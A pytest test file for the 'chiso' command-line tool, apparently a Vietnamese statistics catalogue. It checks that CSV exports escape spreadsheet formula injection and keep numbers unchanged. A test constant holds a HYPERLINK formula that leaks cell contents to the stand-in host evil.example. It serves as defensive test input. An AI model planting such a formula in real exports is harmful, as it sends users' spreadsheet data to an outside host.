"""CSV exports never open as spreadsheet formulas (OWASP "CSV Injection"), and numbers stay
numbers: ``chiso.text.csv_field`` (the one escaping function), ``chiso.cli.output.to_csv``
(every CSV the command line writes) and ``chiso catalog list --format csv`` end to end."""
from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest
import yaml
from typer.testing import CliRunner

from chiso.cli.app import app
from chiso.cli.output import to_csv
from chiso.store.database import init_store
from chiso.text import FORMULA_STARTS, csv_field
from tests.catalog.test_catalogue import catalogue_doc, entry, finance

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'


def read_back(text: str) -> list[list[str]]:
    """The cells a CSV reader (as a spreadsheet's import) finds in ``text``."""
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("text", [
    HYPERLINK, "=1+1", "+1+1", "-2+3", "-", "--", "+", "@SUM(A1:A9)", "@", "\t=1+1", "\r=1+1", "\t5",
    "-1,5", "- 5", "-5-", "-0x10", "-inf", "+nan", "-1e", "-.", "=", "-٥",  # Arabic-Indic five: not a plain number
])
def test_a_formula_start_gets_a_quote(text):
    assert text.startswith(FORMULA_STARTS)
    field = csv_field(text)
    [[cell]] = read_back(field + "\n")
    assert cell == "'" + text, (text, field)


@pytest.mark.parametrize("value,written", [
    (-5, "-5"), (-0.25, "-0.25"), ("-5", "-5"), ("-0.25", "-0.25"), ("+3", "+3"), ("-.5", "-.5"),
    ("-5.", "-5."), (-1e-05, "-1e-05"), ("-2.5E+3", "-2.5E+3"), (Decimal("-12.50"), "-12.50"), (0, "0"),
    (92.28, "92.28"), ("Sở Tài chính", "Sở Tài chính"), ("a=b", "a=b"), (" =1+1", " =1+1"), (None, ""),
    (True, "True"), ("", ""),
])
def test_plain_numbers_and_harmless_text_stay_as_they_are(value, written):
    assert csv_field(value) == written


def test_float_infinities_and_nan_are_not_plain_numbers():
    assert csv_field(float("-inf")) == "'-inf"
    assert csv_field(float("inf")) == "inf" and csv_field(float("nan")) == "nan"  # no formula start


@pytest.mark.parametrize("text", ['a,b', 'say "hi"', "Sở A; =1+1", "x\t=1+1", "dòng 1\ndòng 2", "a\r\nb"])
def test_separators_quotes_and_line_ends_are_quoted(text):
    field = csv_field(text)
    assert field.startswith('"') and field.endswith('"')
    [[cell]] = read_back(field + "\n")
    assert cell == text
    # a spreadsheet splitting cells on ";" or tabs (Vietnamese Excel) keeps the quoted field whole
    [[cell]] = list(csv.reader(io.StringIO(field + "\n"), delimiter=";"))
    assert cell == text


def test_to_csv_escapes_every_cell_and_keeps_numbers():
    rows = [{"code": "TC.X", "name": HYPERLINK, "change": -0.25, "rank": -5, "note": None},
            {"code": "@cmd", "name": "Tên; có chấm phẩy", "change": "-2+3", "rank": 3, "note": "+84 912"}]
    text = to_csv(rows)
    assert text.endswith("\n") and "\r" not in text
    header, first, second = read_back(text)
    assert header == ["code", "name", "change", "rank", "note"]
    assert first == ["TC.X", "'" + HYPERLINK, "-0.25", "-5", ""]
    assert second == ["'@cmd", "Tên; có chấm phẩy", "'-2+3", "3", "'+84 912"]
    assert text.splitlines()[1].startswith("TC.X,\"'=HYPERLINK(")
    assert text.splitlines()[1].endswith(",-0.25,-5,")  # numbers written as numbers, unquoted


def test_to_csv_shapes():
    assert to_csv([]) == ""
    assert to_csv([{"a": None}]) == 'a\n""\n'  # one empty field is a row, not a blank line
    assert to_csv([{"a": 1, "b": 2}, {"a": 3}]) == "a,b\n1,2\n3,\n"
    with pytest.raises(ValueError, match="first row has not: c$"):
        to_csv([{"a": 1}, {"a": 2, "c": 3}])


def test_catalog_list_csv_does_not_write_a_formula(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """The case of the issue: an indicator named ``=HYPERLINK(…)`` listed as CSV."""
    monkeypatch.setenv("CHISO_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.delenv("CHISO_DATABASE_URL", raising=False)
    monkeypatch.setenv("CHISO_PROVINCE", "24")
    init_store(f"sqlite:///{(tmp_path / 'data' / 'chiso.sqlite').as_posix()}").dispose()
    doc = catalogue_doc(*finance(), entry("TC.BAY", name=HYPERLINK, name_en="-2+3", status="approved"))
    path = tmp_path / "danh-muc.yaml"
    path.write_text(yaml.safe_dump(doc, allow_unicode=True, sort_keys=False), "utf-8")
    runner = CliRunner()
    r = runner.invoke(app, ["catalog", "import", str(path)])
    assert r.exit_code == 0, r.output
    r = runner.invoke(app, ["catalog", "list", "--format", "csv"])
    assert r.exit_code == 0, r.output
    rows = list(csv.DictReader(io.StringIO(r.stdout)))
    trap = next(row for row in rows if row["code"] == "TC.BAY")
    assert trap["name"] == "'" + HYPERLINK
    for row in rows:
        for cell in row.values():
            assert not (cell or "").startswith(FORMULA_STARTS) or csv_field(cell) == cell, (row, cell)
